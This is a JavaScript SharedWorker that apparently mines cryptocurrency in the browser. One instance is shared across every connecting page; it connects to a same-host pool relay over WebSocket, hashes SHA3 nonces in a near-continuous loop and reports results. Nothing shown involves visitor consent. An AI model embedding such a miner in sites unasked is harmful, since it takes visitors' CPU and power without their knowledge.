// One instance per site and name, shared by every page that connects; it keeps its own pool
// socket (the compact "relay" protocol) and hashes in its own thread.
importScripts("/js/keccak.js", "/js/search.js");
var ws = null, task = null, nonce = 0, busy = false;

function work() {
  if (!task) { busy = false; return; }
  busy = true;
  var start = performance.now();
  while (performance.now() - start < 40) {
    var found = self.evSearch(task, "sha3", nonce, 32);
    nonce = (nonce + 32) >>> 0;
    for (var i = 0; i < found.length; i++) ws.send(JSON.stringify(["r", task.id, found[i].nonce, found[i].result]));
  }
  setTimeout(work, 0);
}

onconnect = function (event) {
  var port = event.ports[0];
  port.onmessage = function (e) {
    if (ws) return;
    ws = new WebSocket("ws://" + location.host + "/pool/relay");
    ws.onopen = function () { ws.send(JSON.stringify(["hi", e.data.acct, "shared"])); };
    ws.onmessage = function (m) {
      var f = JSON.parse(m.data);
      if (f[0] === "w") { task = { id: f[1], seed: f[2], target: f[3] }; if (!busy) work(); }
    };
  };
  port.start();
};
